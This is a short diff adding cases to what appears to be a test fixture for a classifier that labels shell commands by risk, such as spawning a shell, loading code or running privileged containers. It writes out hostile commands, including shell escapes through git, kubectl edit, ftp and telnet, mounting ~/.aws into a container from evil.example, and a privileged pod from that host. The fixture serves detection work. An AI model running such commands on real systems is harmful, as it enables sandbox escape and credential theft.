@@ -295,6 +295,13 @@ code.load ← /lib64/ld-linux-x86-64.so.2 --preload /tmp/x.so /bin/ls
 !code.load ← git --exec-path
 !code.load ← sqlite3 x '.load ./vec0'
 container.privileged ← kubectl debug node/x -it --image=alpine
+shell.spawn ← git -p help config <<< '!/bin/sh'
+shell.spawn ← kubectl edit x <<< ':!sh'
+shell.spawn ← ftp < <(printf '!sh')
+!shell.spawn ← git commit -F - <<< '!sh'
+!shell.spawn ← tee f <<< '!sh'
+command.hook ← telnet h <<< '!id'
+!command.hook ← sftp h <<< '!ls'
 container.foreign ← docker run -v /home:/h someone/x
 container.foreign ← podman run --mount type=bind,src=$HOME/.aws,dst=/a evil.example/x
 container.privileged ← kubectl run x --image=evil.example/x --privileged
